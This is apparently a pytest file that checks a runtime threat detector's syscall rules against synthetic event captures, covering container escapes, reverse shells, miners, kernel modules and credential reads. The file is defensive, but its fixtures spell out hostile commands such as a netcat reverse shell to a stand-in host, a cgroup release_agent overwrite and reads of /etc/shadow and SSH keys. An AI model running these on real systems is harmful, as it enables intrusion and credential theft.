"""Each built-in syscall rule fires on a synthetic capture of its action, with the right key fields,
and stays silent on a benign variant (an excluded program, the host instead of a container, a
different flag…).

Captures are written with the project's `ScapWriter` (see builtin_capture.py) and replayed through
the capture replay source and the state engine, as `rae replay` does, with ``rule_matching: all``
so that every rule that matches is seen. Benign variants must raise no alert at all.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from builtin_capture import (
    O_APPEND,
    O_CLOEXEC,
    O_CREAT,
    O_RDONLY,
    O_TRUNC,
    O_WRONLY,
    PTRACE_ATTACH,
    PTRACE_PEEKDATA,
    PTRACE_SEIZE,
    PTRACE_TRACEME,
    RULES,
    TOOLS,
    WEB,
    Capture,
    Container,
    fd_record_socket,
    fired,
    mount,
    only,
    replay_file,
)

from rae.rules import LoadOptions, load_rules

Case = Callable[[], tuple[Capture, dict[str, Any]]]
POSITIVE: list[tuple[str, str, Case]] = []
NEGATIVE: list[tuple[str, str, Callable[[], Capture]]] = []
KEY_FIELDS = ("proc.name", "proc.cmdline", "proc.pname", "user.name", "container.id", "container.name",
              "container.image.repository")
W_NEW = O_WRONLY | O_CREAT | O_TRUNC


def fires(rule: str) -> Callable[[Case], Case]:
    def deco(fn: Case) -> Case:
        POSITIVE.append((rule, fn.__name__, fn))
        return fn
    return deco


def silent(rule: str) -> Callable[[Callable[[], Capture]], Callable[[], Capture]]:
    def deco(fn: Callable[[], Capture]) -> Callable[[], Capture]:
        NEGATIVE.append((rule, fn.__name__, fn))
        return fn
    return deco


@pytest.fixture(scope="module")
def ruleset() -> Any:
    return load_rules([str(RULES)], LoadOptions(rule_matching="all"))


# --- common process trees ------------------------------------------------------------------------

def web() -> Capture:
    """nginx in a container: master (pid 1 inside) and a worker whose parent is the master."""
    c = Capture()
    c.process(40, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", ["-namespace", "moby"])
    c.process(50, "nginx", "/usr/sbin/nginx", ["-g", "daemon off;"], ptid=40, container=WEB, vpid=1)
    c.process(100, "nginx", "/usr/sbin/nginx", ["-g", "daemon off;"], ptid=50, container=WEB, vpid=7, uid=33)
    return c


def host(comm: str, exe: str, args: list[str] | None = None, *, uid: int = 0, tid: int = 200,
         parent: tuple[str, str] | None = None) -> Capture:
    """One host process (tid 200) started by an interactive bash (tid 150) or by ``parent``."""
    c = Capture()
    pcomm, pexe = parent or ("bash", "/usr/bin/bash")
    c.process(150, pcomm, pexe, ptid=1, uid=uid)
    c.process(tid, comm, exe, args or [], ptid=150, uid=uid)
    return c


def in_container(comm: str, exe: str, args: list[str] | None = None, *, container: Container = WEB,
                 tid: int = 300) -> Capture:
    """One process (tid 300) in ``container``, child of a shell (tid 290) in the same container."""
    c = Capture()
    c.process(290, "sh", "/bin/sh", ptid=1, container=container, vpid=1)
    c.process(tid, comm, exe, args or [], ptid=290, container=container, vpid=12)
    return c


def runtime_exec(container: Container = TOOLS, *, vpid: int = 9) -> Capture:
    """A process that runc is about to turn into the command of ``runc exec`` / the entrypoint."""
    c = Capture()
    c.process(799, "runc", "/usr/bin/runc", ["exec", "-t", container.id])
    c.process(800, "runc:[2:INIT]", "/usr/bin/runc", ["init"], ptid=799, container=container, vpid=vpid)
    return c


def under_dpkg(comm: str, exe: str) -> Capture:
    """A maintainer-script process: apt-get → dpkg → sh → ``comm`` (tid 1003)."""
    c = Capture()
    c.process(1000, "apt-get", "/usr/bin/apt-get", ["install", "-y", "foo"], ptid=1)
    c.process(1001, "dpkg", "/usr/bin/dpkg", ["--configure", "-a"], ptid=1000)
    c.process(1002, "sh", "/bin/sh", ["/var/lib/dpkg/info/foo.postinst", "configure"], ptid=1001)
    c.process(1003, comm, exe, ptid=1002)
    return c


# --- CVE-2019-5736 ---------------------------------------------------------------------------------

RUNTIME_OVERWRITE = "Container Runtime Binary Overwrite"


@fires(RUNTIME_OVERWRITE)
def runc_overwrite_through_proc_fd() -> tuple[Capture, dict[str, Any]]:
    c = in_container("exploit", "/tmp/exploit")
    c.openat(300, "/proc/self/fd/3", O_WRONLY | O_TRUNC, 4)
    return c, {"fd.name": "/proc/self/fd/3", "proc.name": "exploit", "container.id": WEB.id}


@fires(RUNTIME_OVERWRITE)
def runc_overwrite_through_proc_exe_even_when_busy() -> tuple[Capture, dict[str, Any]]:
    c = in_container("exploit", "/tmp/exploit")
    c.openat(300, "/proc/27/exe", O_WRONLY, -26)  # ETXTBSY: runc still running, the exploit retries
    return c, {"fd.name": "/proc/27/exe", "evt.res": "ETXTBSY"}


@silent(RUNTIME_OVERWRITE)
def runc_init_opens_its_exec_fifo() -> Capture:
    c = runtime_exec()
    c.openat(800, "/proc/self/fd/5", O_WRONLY | O_CLOEXEC, 6)
    return c


@silent(RUNTIME_OVERWRITE)
def proc_fd_truncation_on_the_host() -> Capture:
    c = host("tee", "/usr/bin/tee", ["/proc/self/fd/3"])
    c.openat(200, "/proc/self/fd/3", W_NEW, 4)
    return c


# --- CVE-2022-0492 ---------------------------------------------------------------------------------

RELEASE_AGENT = "Cgroup Release Agent Modified"


@fires(RELEASE_AGENT)
def release_agent_written_from_container() -> tuple[Capture, dict[str, Any]]:
    c = in_container("sh", "/bin/sh", ["-c", "echo /cmd > /tmp/cgrp/release_agent"])
    c.openat(300, "/tmp/cgrp/release_agent", W_NEW, 3)
    return c, {"fd.name": "/tmp/cgrp/release_agent", "proc.name": "sh", "container.name": WEB.name}


@silent(RELEASE_AGENT)
def systemd_sets_release_agent() -> Capture:
    c = Capture()
    c.openat(1, "/sys/fs/cgroup/systemd/release_agent", O_WRONLY, 9)
    return c


@silent(RELEASE_AGENT)
def release_agent_only_read() -> Capture:
    c = in_container("cat", "/bin/cat", ["/sys/fs/cgroup/rdma/release_agent"])
    c.openat(300, "/sys/fs/cgroup/rdma/release_agent", O_RDONLY, 3)
    return c


# --- sensitive mounts ------------------------------------------------------------------------------

SENSITIVE_MOUNT = "Sensitive Mount by Container Process"


@fires(SENSITIVE_MOUNT)
def cgroup_mounted_in_container() -> tuple[Capture, dict[str, Any]]:
    c = in_container("mount", "/bin/mount", ["-t", "cgroup", "-o", "rdma", "cgroup", "/tmp/cgrp"])
    c.mount(300, "cgroup", "/tmp/cgrp", "cgroup")
    return c, {"evt.arg.type": "cgroup", "evt.arg.dir": "/tmp/cgrp", "proc.name": "mount",
               "container.id": WEB.id}


@fires(SENSITIVE_MOUNT)
def host_disk_mounted_in_container() -> tuple[Capture, dict[str, Any]]:
    c = in_container("mount", "/bin/mount", ["/dev/sda1", "/mnt"])
    c.mount(300, "/dev/sda1", "/mnt", "ext4")
    return c, {"evt.arg.dev": "/dev/sda1", "evt.arg.dir": "/mnt"}


@fires(SENSITIVE_MOUNT)
def proc_mounted_in_container() -> tuple[Capture, dict[str, Any]]:
    c = in_container("mount", "/bin/mount", ["-t", "proc", "proc", "/mnt/p"])
    c.mount(300, "proc", "/mnt/p", "proc", res=-1)  # refused, still reported
    return c, {"evt.arg.type": "proc", "evt.res": "EPERM"}


@fires(SENSITIVE_MOUNT)
def runtime_socket_bind_mounted_in_container() -> tuple[Capture, dict[str, Any]]:
    c = in_container("mount", "/bin/mount", ["--bind", "/run/containerd/containerd.sock", "/tmp/s"])
    c.mount(300, "/run/containerd/containerd.sock", "/tmp/s", "none", flags=4096)
    return c, {"evt.arg.dev": "/run/containerd/containerd.sock"}


@silent(SENSITIVE_MOUNT)
def runc_prepares_proc_for_the_container() -> Capture:
    c = runtime_exec()
    c.mount(800, "proc", "/proc", "proc")
    c.mount(800, "sysfs", "/sys", "sysfs")
    return c


@silent(SENSITIVE_MOUNT)
def tmpfs_mounted_in_container() -> Capture:
    c = in_container("mount", "/bin/mount", ["-t", "tmpfs", "tmpfs", "/scratch"])
    c.mount(300, "tmpfs", "/scratch", "tmpfs")
    return c


@silent(SENSITIVE_MOUNT)
def proc_mounted_on_the_host() -> Capture:
    c = host("mount", "/usr/bin/mount", ["-t", "proc", "proc", "/mnt/p"])
    c.mount(200, "proc", "/mnt/p", "proc")
    return c


# --- CVE-2021-4034 ---------------------------------------------------------------------------------

PKEXEC = "Privilege Escalation via Pkexec Empty Argv"


@fires(PKEXEC)
def pkexec_without_argv() -> tuple[Capture, dict[str, Any]]:
    c = host("pwnkit", "/tmp/pwnkit", uid=1000)
    c.execve(200, "/usr/bin/pkexec", [], argv0="")
    return c, {"proc.name": "pkexec", "proc.cmdline": "pkexec", "proc.pname": "bash", "user.name": "alice",
               "container.id": "host"}


@silent(PKEXEC)
def pkexec_without_arguments() -> Capture:
    c = host("bash", "/usr/bin/bash", uid=1000)
    c.execve(200, "/usr/bin/pkexec", [], argv0="pkexec")
    return c


@silent(PKEXEC)
def pkexec_with_a_command() -> Capture:
    c = host("bash", "/usr/bin/bash", uid=1000)
    c.execve(200, "/usr/bin/pkexec", ["/usr/bin/systemctl", "restart", "cron"])
    return c


# --- miners ------------------------------------------------------------------------------------------

MINER = "Cryptocurrency Miner Launched"
POOL_PORT = "Outbound Connection to Mining Pool Port"


@fires(MINER)
def xmrig_started_in_container() -> tuple[Capture, dict[str, Any]]:
    c = in_container("sh", "/bin/sh")
    c.execve(300, "/tmp/.x/xmrig", ["-o", "pool.example.net:443", "--donate-level", "1"])
    return c, {"proc.name": "xmrig", "proc.cmdline": "xmrig -o pool.example.net:443 --donate-level 1",
               "proc.pname": "sh", "container.image.repository": "docker.io/library/nginx"}


@fires(MINER)
def stratum_url_on_command_line() -> tuple[Capture, dict[str, Any]]:
    c = host("bash", "/usr/bin/bash")
    c.execve(200, "/usr/bin/python3", ["m.py", "--url", "stratum+tcp://pool.example.com:3333"])
    return c, {"proc.name": "python3", "proc.cmdline": "python3 m.py --url stratum+tcp://pool.example.com:3333"}


@silent(MINER)
def ordinary_programs_started() -> Capture:
    c = host("bash", "/usr/bin/bash")
    c.execve(200, "/usr/bin/chronyc", ["tracking"])
    c.execve(200, "/usr/bin/curl", ["-s", "https://example.com/stratum"])
    return c


@fires(POOL_PORT)
def connect_to_public_pool_port() -> tuple[Capture, dict[str, Any]]:
    c = in_container("worker", "/usr/local/bin/worker")
    c.socket_connect(300, 7, "45.9.148.1", 3333)
    return c, {"fd.name": "172.17.0.2:40000->45.9.148.1:3333", "fd.sport": 3333, "proc.name": "worker"}


@fires(POOL_PORT)
def connect_in_progress_to_pool_port() -> tuple[Capture, dict[str, Any]]:
    c = host("miner", "/opt/miner")
    c.socket_connect(200, 7, "198.51.100.20", 14444, res=-115)
    return c, {"fd.sport": 14444}


@silent(POOL_PORT)
def connect_to_pool_port_on_loopback_or_private_network() -> Capture:
    c = host("redis-cli", "/usr/bin/redis-cli")
    c.socket_connect(200, 7, "127.0.0.1", 3333, src="127.0.0.1")
    c.socket_connect(200, 8, "10.1.2.3", 4444, src="10.1.2.4")
    return c


@silent(POOL_PORT)
def connect_to_public_https() -> Capture:
    c = host("curl", "/usr/bin/curl")
    c.socket_connect(200, 7, "93.184.216.34", 443)
    return c


# --- reverse shells ------------------------------------------------------------------------------

REVERSE_DUP = "Reverse Shell Socket Redirect"
SOCKET_STDIN = "Shell Started With Network Socket as Stdin"


@fires(REVERSE_DUP)
def bash_redirects_stdin_to_tcp() -> tuple[Capture, dict[str, Any]]:
    c = host("bash", "/usr/bin/bash", ["-i"], uid=33)
    c.socket_connect(200, 3, "203.0.113.7", 9001, src="192.168.1.5")
    c.dup2(200, 3, 0)
    return c, {"fd.name": "192.168.1.5:40000->203.0.113.7:9001", "evt.rawres": 0, "proc.name": "bash",
               "user.name": "www-data", "evt.type": "dup2"}


@fires(REVERSE_DUP)
def python_dups_socket_in_container() -> tuple[Capture, dict[str, Any]]:
    c = in_container("python3", "/usr/bin/python3", ["-c", "import socket,os,pty;..."])
    c.socket_connect(300, 3, "203.0.113.7", 9001)
    c.close(300, 0)
    c.dup2(300, 3, 0, name="dup")
    return c, {"evt.type": "dup", "proc.name": "python3", "container.id": WEB.id}


@fires(REVERSE_DUP)
def sh_dup3_socket_to_stderr() -> tuple[Capture, dict[str, Any]]:
    c = host("sh", "/bin/sh")
    c.socket_connect(200, 4, "203.0.113.7", 9001)
    c.dup2(200, 4, 2, name="dup3")
    return c, {"evt.type": "dup3", "evt.rawres": 2}


@silent(REVERSE_DUP)
def shell_redirects_to_a_pipe_or_above_stderr() -> Capture:
    c = host("bash", "/usr/bin/bash")
    c.dup2(200, 1, 7)  # a pipe onto fd 7
    c.socket_connect(200, 3, "203.0.113.7", 9001)
    c.dup2(200, 3, 5)  # a socket, but not onto stdio
    return c


@silent(REVERSE_DUP)
def server_dups_socket_onto_stdin() -> Capture:
    c = host("inetd", "/usr/sbin/inetd")
    c.socket_connect(200, 3, "203.0.113.7", 9001)
    c.dup2(200, 3, 0)
    return c


@fires(SOCKET_STDIN)
def shell_exec_with_socket_stdin() -> tuple[Capture, dict[str, Any]]:
    c = Capture()
    c.process(150, "bash", "/usr/bin/bash")
    c.process(200, "nc", "/usr/bin/nc", ["-e", "/bin/sh", "203.0.113.7", "9001"], ptid=150,
              fds=[fd_record_socket(200, n, "203.0.113.7", 9001) for n in (0, 1, 2)])
    c.execve(200, "/bin/sh", [])
    return c, {"proc.name": "sh", "proc.pname": "bash", "proc.stdin.name": "172.17.0.2:40000->203.0.113.7:9001"}


@silent(SOCKET_STDIN)
def shell_exec_with_pipe_stdin() -> Capture:
    c = host("nc", "/usr/bin/nc", ["-l", "9001"])
    c.execve(200, "/bin/sh", ["-c", "true"])
    return c


# --- fileless execution ----------------------------------------------------------------------------

FILELESS = "Fileless Execution from Memory"


@fires(FILELESS)
def exec_of_memfd_with_execveat() -> tuple[Capture, dict[str, Any]]:
    c = host("loader", "/tmp/loader")
    c.memfd_create(200, 3, "payload")
    c.execve(200, "", ["--stage2"], at_fd=3, comm="3")
    return c, {"proc.name": "3", "proc.pname": "bash"}


@fires(FILELESS)
def exec_through_proc_self_fd_in_container() -> tuple[Capture, dict[str, Any]]:
    c = in_container("python3", "/usr/bin/python3")
    c.memfd_create(300, 4, "")
    c.execve(300, "/proc/self/fd/4", [], comm="4")
    return c, {"proc.exepath": "/proc/self/fd/4", "container.id": WEB.id}


@fires(FILELESS)
def memfd_exec_as_the_live_probe_reports_it() -> tuple[Capture, dict[str, Any]]:
    """Live, a successful execveat exit arrives as an execve exit (from sched_process_exec), so the
    executable path is not re-resolved; recent kernels name the process after the memfd."""
    c = host("python3", "/usr/bin/python3", ["drop.py"])
    c.add("execveat", 200, [3, b"", 1], None)
    c.execve(200, "/usr/bin/true", [], comm="memfd:probe", argv0="true")
    c.events.pop(-2)  # keep the execveat enter, drop execve's own enter
    return c, {"proc.name": "memfd:probe", "proc.pname": "bash"}


@silent(FILELESS)
def runc_reexecs_its_sealed_copy() -> Capture:
    c = Capture()
    c.process(498, "containerd-shim", "/usr/bin/containerd-shim-runc-v2")
    c.process(499, "runc", "/usr/bin/runc", ["create", "--bundle", "/run/b"], ptid=498)
    c.process(500, "exe", "/proc/self/exe", ["init"], ptid=499)
    c.memfd_create(500, 3, "runc_cloned:/proc/self/exe")
    c.execve(500, "", ["init"], at_fd=3, comm="3", argv0="runc")
    return c


@silent(FILELESS)
def ordinary_exec() -> Capture:
    c = host("bash", "/usr/bin/bash")
    c.execve(200, "/usr/bin/ls", ["-l"])
    return c


# --- kernel modules ----------------------------------------------------------------------------------

KMOD = "Kernel Module Loaded"


@fires(KMOD)
def insmod_run_by_a_user() -> tuple[Capture, dict[str, Any]]:
    c = host("bash", "/usr/bin/bash")
    c.execve(200, "/usr/sbin/insmod", ["/tmp/rk.ko"])
    return c, {"proc.name": "insmod", "proc.cmdline": "insmod /tmp/rk.ko", "proc.pname": "bash"}


@fires(KMOD)
def finit_module_by_a_custom_loader() -> tuple[Capture, dict[str, Any]]:
    c = host("loader", "/tmp/loader")
    c.finit_module(200, 3)
    return c, {"evt.type": "finit_module", "proc.name": "loader"}


@fires(KMOD)
def init_module_from_memory() -> tuple[Capture, dict[str, Any]]:
    c = in_container("loader", "/tmp/loader")
    c.init_module(300, res=-1)
    return c, {"evt.type": "init_module", "container.id": WEB.id}


@fires(KMOD)
def finit_module_as_a_generic_syscall_event() -> tuple[Capture, dict[str, Any]]:
    """The live probe has no dedicated layout for (f)init_module: they arrive as generic events."""
    c = host("loader", "/tmp/loader")
    c.events.append((0, [314, 313], 200))  # syscall > ID=finit_module (PPM_SC 314), native 313
    c.events.append((1, [314], 200))  # syscall <
    return c, {"evt.type": "finit_module", "proc.name": "loader"}


@silent(KMOD)
def kernel_requested_modprobe() -> Capture:
    c = Capture()
    c.process(2, "kthreadd", "", ptid=0)
    c.process(600, "kworker/u8:2", "", ptid=2)
    c.process(601, "kworker/u8:2", "", ptid=600)
    c.execve(601, "/sbin/modprobe", ["-q", "--", "net-pf-10"])
    c.finit_module(601, 3)
    return c


@silent(KMOD)
def udev_coldplug() -> Capture:
    c = Capture()
    c.process(400, "systemd-udevd", "/usr/lib/systemd/systemd-udevd")
    c.finit_module(400, 12)
    return c


# --- ptrace -------------------------------------------------------------------------------------------

PTRACE = "Ptrace Attach to Process"


@fires(PTRACE)
def gdb_attaches() -> tuple[Capture, dict[str, Any]]:
    c = host("gdb", "/usr/bin/gdb", ["-p", "150"])
    c.ptrace(200, PTRACE_ATTACH, 150)
    return c, {"evt.arg.request": "PTRACE_ATTACH", "proc.name": "gdb", "proc.cmdline": "gdb -p 150"}


@fires(PTRACE)
def seize_from_container() -> tuple[Capture, dict[str, Any]]:
    c = in_container("injector", "/tmp/injector")
    c.ptrace(300, PTRACE_SEIZE, 290, res=-1)
    return c, {"evt.arg.request": "PTRACE_SEIZE", "container.id": WEB.id}


@silent(PTRACE)
def traceme_and_peek() -> Capture:
    c = host("strace", "/usr/bin/strace", ["ls"])
    c.ptrace(200, PTRACE_TRACEME, 0)
    c.ptrace(200, PTRACE_PEEKDATA, 150)
    return c


# --- container start with host mounts ------------------------------------------------------------

SENSITIVE_START = "Container Started With Sensitive Mount"
HOSTROOT = Container("5a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9", "debug",
                     "docker.io/library/alpine:3.19", [mount("/srv/data", "/data"), mount("/", "/host")])
SOCKET = Container("6a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9", "ci-runner",
                   "ghcr.io/example/runner:1",
                   [mount("/run/containerd/containerd.sock", "/run/containerd/containerd.sock")])
HOSTPROC = Container("7a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9", "agent",
                     "quay.io/example/agent:2", [mount("/proc", "/host/proc", rw=False)])
DATA = Container("8a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9", "db",
                 "docker.io/library/postgres:16", [mount("/srv/pg", "/var/lib/postgresql/data")])
FALCO = Container("9a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9", "falco",
                  "docker.io/falcosecurity/falco:0.38.0", [mount("/proc", "/host/proc", rw=False)])


def started(container: Container, vpid: int = 1) -> Capture:
    c = runtime_exec(container, vpid=vpid)
    c.execve(800, "/bin/sleep", ["infinity"])
    return c


@fires(SENSITIVE_START)
def container_with_host_root() -> tuple[Capture, dict[str, Any]]:
    return started(HOSTROOT), {"container.id": HOSTROOT.id, "container.name": "debug",
                               "container.image.repository": "docker.io/library/alpine",
                               "container.mounts": "/srv/data:/data::true:rprivate,/:/host::true:rprivate",
                               "proc.name": "sleep"}


@fires(SENSITIVE_START)
def container_with_runtime_socket() -> tuple[Capture, dict[str, Any]]:
    return started(SOCKET), {"container.name": "ci-runner"}


@fires(SENSITIVE_START)
def container_with_host_proc() -> tuple[Capture, dict[str, Any]]:
    return started(HOSTPROC), {"container.name": "agent"}


@silent(SENSITIVE_START)
def later_process_in_host_root_container() -> Capture:
    return started(HOSTROOT, vpid=5)


@silent(SENSITIVE_START)
def container_with_data_volume() -> Capture:
    return started(DATA)


@silent(SENSITIVE_START)
def node_agent_image() -> Capture:
    return started(FALCO)


# --- shells in containers ------------------------------------------------------------------------

TERMINAL = "Terminal Shell in Container"
SHELL = "Shell Spawned in Container"


@fires(TERMINAL)
def kubectl_exec_it_bash() -> tuple[Capture, dict[str, Any]]:
    c = runtime_exec(TOOLS)
    c.execve(800, "/bin/bash", [], tty=34817)
    return c, {"proc.name": "bash", "proc.tty": 34817, "proc.pname": "runc", "container.id": TOOLS.id,
               "container.name": "tools", "container.image.repository": "registry.example.com/ops/toolbox"}


@silent(TERMINAL)
def exec_probe_shell_without_terminal() -> Capture:
    c = runtime_exec(TOOLS)
    c.execve(800, "/bin/sh", ["-c", "pg_isready"])
    return c


@silent(TERMINAL)
def terminal_shell_on_the_host() -> Capture:
    c = host("sshd", "/usr/sbin/sshd")
    c.execve(200, "/usr/bin/bash", [], tty=34818)
    return c


@fires(SHELL)
def web_server_spawns_shell() -> tuple[Capture, dict[str, Any]]:
    c = web()
    c.execve(100, "/bin/sh", ["-c", "id; uname -a"])
    return c, {"proc.name": "sh", "proc.cmdline": "sh -c id; uname -a", "proc.pname": "nginx",
               "user.name": "www-data", "container.id": WEB.id, "container.name": "web-1"}


@fires(SHELL)
def busybox_standalone_shell_applet() -> tuple[Capture, dict[str, Any]]:
    c = web()
    c.execve(100, "/proc/self/exe", ["-c", "id"], argv0="sh", comm="exe")
    return c, {"proc.name": "exe", "proc.cmdline": "exe -c id", "proc.pname": "nginx"}


@silent(SHELL)
def entrypoint_shell() -> Capture:
    c = runtime_exec(WEB, vpid=1)
    c.execve(800, "/bin/sh", ["-c", "exec nginx -g 'daemon off;'"])
    return c


@silent(SHELL)
def script_runs_a_subshell() -> Capture:
    c = in_container("sh", "/bin/sh", ["/docker-entrypoint.d/20-envsubst.sh"])
    c.execve(300, "/bin/sh", ["-c", "envsubst < /tmp/t"])
    return c


@silent(SHELL)
def host_program_spawns_shell() -> Capture:
    c = host("nginx", "/usr/sbin/nginx")
    c.execve(200, "/bin/sh", ["-c", "id"])
    return c


# --- writes below system directories -------------------------------------------------------------

BIN = "Write Below Binary Directory"
LIB = "Write Below Library Directory"
ETC = "Write Below Etc"


@fires(BIN)
def binary_downloaded_into_usr_local_bin() -> tuple[Capture, dict[str, Any]]:
    c = host("curl", "/usr/bin/curl", ["-o", "/usr/local/bin/kubectl", "https://dl.example.com/k"])
    c.openat(200, "/usr/local/bin/kubectl", W_NEW, 5)
    return c, {"fd.name": "/usr/local/bin/kubectl", "proc.name": "curl", "proc.pname": "bash"}


@fires(BIN)
def binary_replaced_by_rename() -> tuple[Capture, dict[str, Any]]:
    c = in_container("mv", "/bin/mv", ["/tmp/x", "/usr/bin/sudo"])
    c.renameat2(300, "/tmp/x", "/usr/bin/sudo")
    return c, {"fs.path.target": "/usr/bin/sudo", "container.id": WEB.id}


@silent(BIN)
def package_install_writes_binary() -> Capture:
    c = under_dpkg("cp", "/usr/bin/cp")
    c.openat(1003, "/usr/bin/foo.dpkg-new", W_NEW, 5)
    c.renameat2(1003, "/usr/bin/foo.dpkg-new", "/usr/bin/foo")
    return c


@silent(BIN)
def pip_installs_entry_point() -> Capture:
    c = host("pip3", "/usr/bin/pip3", ["install", "flask"])
    c.openat(200, "/usr/local/bin/flask", W_NEW, 5)
    return c


@silent(BIN)
def binary_only_read() -> Capture:
    c = host("sha256sum", "/usr/bin/sha256sum", ["/usr/bin/ls"])
    c.openat(200, "/usr/bin/ls", O_RDONLY, 3)
    return c


@fires(LIB)
def shared_library_overwritten() -> tuple[Capture, dict[str, Any]]:
    c = host("cp", "/usr/bin/cp", ["/tmp/libpam.so.0", "/usr/lib/x86_64-linux-gnu/libpam.so.0"])
    c.openat(200, "/usr/lib/x86_64-linux-gnu/libpam.so.0", W_NEW, 4)
    return c, {"fd.name": "/usr/lib/x86_64-linux-gnu/libpam.so.0", "proc.name": "cp"}


@fires(LIB)
def module_planted_by_rename() -> tuple[Capture, dict[str, Any]]:
    c = host("mv", "/usr/bin/mv")
    c.renameat2(200, "/tmp/rk.ko", "/lib/modules/6.1.0/kernel/rk.ko")
    return c, {"fs.path.target": "/lib/modules/6.1.0/kernel/rk.ko"}


@silent(LIB)
def python_writes_bytecode_cache() -> Capture:
    c = host("python3", "/usr/bin/python3", ["-c", "import yaml"])
    c.openat(200, "/usr/lib/python3/dist-packages/yaml/__pycache__/x.cpython-311.pyc", W_NEW, 4)
    return c


@silent(LIB)
def depmod_rebuilds_module_index() -> Capture:
    c = host("depmod", "/usr/sbin/depmod", ["-a"])
    c.openat(200, "/lib/modules/6.1.0/modules.dep.bin.tmp", W_NEW, 4)
    c.renameat2(200, "/lib/modules/6.1.0/modules.dep.bin.tmp", "/lib/modules/6.1.0/modules.dep.bin")
    return c


@fires(ETC)
def cron_backdoor_written() -> tuple[Capture, dict[str, Any]]:
    c = host("python3", "/usr/bin/python3", ["x.py"])
    c.openat(200, "/etc/cron.d/backdoor", W_NEW, 4)
    return c, {"fd.name": "/etc/cron.d/backdoor", "proc.name": "python3", "proc.cmdline": "python3 x.py",
               "proc.pname": "bash", "user.name": "root", "container.id": "host"}


@fires(ETC)
def passwd_appended_in_container() -> tuple[Capture, dict[str, Any]]:
    c = in_container("sh", "/bin/sh")
    c.openat(300, "/etc/passwd", O_WRONLY | O_APPEND, 3)
    return c, {"fd.name": "/etc/passwd", "container.id": WEB.id}


@fires(ETC)
def etc_written_in_an_ssh_session() -> tuple[Capture, dict[str, Any]]:
    """Trust never flows from a login daemon to what its users run."""
    c = host("tee", "/usr/bin/tee", ["/etc/ld.so.preload"], parent=("sshd", "/usr/sbin/sshd"))
    c.openat(200, "/etc/ld.so.preload", W_NEW, 3)
    return c, {"fd.name": "/etc/ld.so.preload", "proc.pname": "sshd"}


@silent(ETC)
def maintainer_script_writes_config() -> Capture:
    c = under_dpkg("sed", "/usr/bin/sed")
    c.openat(1003, "/etc/default/sedXYZ", W_NEW, 4)
    return c


@silent(ETC)
def dhcp_updates_resolver() -> Capture:
    c = host("dhclient-script", "/sbin/dhclient-script", parent=("dhclient", "/sbin/dhclient"))
    c.openat(200, "/etc/resolv.conf.dhclient-new.812", W_NEW, 4)
    return c


@silent(ETC)
def account_tools_and_readers() -> Capture:
    c = host("useradd", "/usr/sbin/useradd", ["bob"])
    c.openat(200, "/etc/passwd+", W_NEW, 4)
    c.openat(200, "/etc/shadow", O_RDONLY, 5)
    c2 = c
    c2.process(210, "cat", "/usr/bin/cat", ["/etc/passwd"], ptid=150)
    c2.openat(210, "/etc/passwd", O_RDONLY, 3)
    return c2


# --- sensitive reads ---------------------------------------------------------------------------------

READ = "Read Sensitive File by Untrusted Program"


@fires(READ)
def shadow_read_by_python() -> tuple[Capture, dict[str, Any]]:
    c = host("python3", "/usr/bin/python3", ["dump.py"], uid=0)
    c.openat(200, "/etc/shadow", O_RDONLY | O_CLOEXEC, 3)
    return c, {"fd.name": "/etc/shadow", "proc.name": "python3", "proc.cmdline": "python3 dump.py",
               "proc.pname": "bash", "user.name": "root", "container.id": "host", "container.name": "host"}


@fires(READ)
def root_ssh_key_read_in_container() -> tuple[Capture, dict[str, Any]]:
    c = in_container("cat", "/bin/cat", ["/root/.ssh/id_rsa"])
    c.openat(300, "/root/.ssh/id_rsa", O_RDONLY, 3)
    return c, {"fd.name": "/root/.ssh/id_rsa", "proc.name": "cat", "proc.pname": "sh", "container.id": WEB.id}


@fires(READ)
def sudoers_fragment_read() -> tuple[Capture, dict[str, Any]]:
    c = host("cat", "/usr/bin/cat", ["/etc/sudoers.d/90-users"])
    c.openat(200, "/etc/sudoers.d/90-users", O_RDONLY, 3)
    return c, {"fd.name": "/etc/sudoers.d/90-users"}


@fires(READ)
def user_private_key_read_by_archiver() -> tuple[Capture, dict[str, Any]]:
    c = host("tar", "/usr/bin/tar", ["czf", "/tmp/k.tgz", "/home/alice/.ssh"], uid=1000)
    c.openat(200, "/home/alice/.ssh/id_ed25519", O_RDONLY, 4)
    return c, {"fd.name": "/home/alice/.ssh/id_ed25519", "user.name": "alice"}


@silent(READ)
def sshd_and_ssh_read_their_files() -> Capture:
    c = host("sshd", "/usr/sbin/sshd", parent=("sshd", "/usr/sbin/sshd"))
    c.openat(200, "/etc/shadow", O_RDONLY, 3)
    c.openat(200, "/etc/ssh/ssh_host_ed25519_key", O_RDONLY, 4)
    c.process(210, "ssh", "/usr/bin/ssh", ["git@example.com"], ptid=150, uid=1000)
    c.openat(210, "/home/alice/.ssh/id_ed25519", O_RDONLY, 3)
    return c


@silent(READ)
def ordinary_etc_reads() -> Capture:
    c = host("cat", "/usr/bin/cat", ["/etc/passwd"])
    c.openat(200, "/etc/passwd", O_RDONLY, 3)
    c.openat(200, "/etc/shadow", O_RDONLY, -13)  # refused: no descriptor, nothing read
    return c


@silent(READ)
def package_script_reads_shadow() -> Capture:
    c = under_dpkg("grep", "/usr/bin/grep")
    c.openat(1003, "/etc/shadow", O_RDONLY, 3)
    return c


# --- anti-forensics ------------------------------------------------------------------------------

LOGS = "Log Files Cleared"
HISTORY = "Shell History Deleted"


@fires(LOGS)
def log_truncated_by_redirect() -> tuple[Capture, dict[str, Any]]:
    c = host("bash", "/usr/bin/bash")
    c.openat(200, "/var/log/auth.log", W_NEW, 3)
    return c, {"fd.name": "/var/log/auth.log", "proc.name": "bash", "evt.type": "openat"}


@fires(LOGS)
def log_deleted() -> tuple[Capture, dict[str, Any]]:
    c = in_container("rm", "/bin/rm", ["-f", "/var/log/nginx/access.log"])
    c.unlinkat(300, "/var/log/nginx/access.log")
    return c, {"fs.path.name": "/var/log/nginx/access.log", "proc.name": "rm", "container.id": WEB.id}


@fires(LOGS)
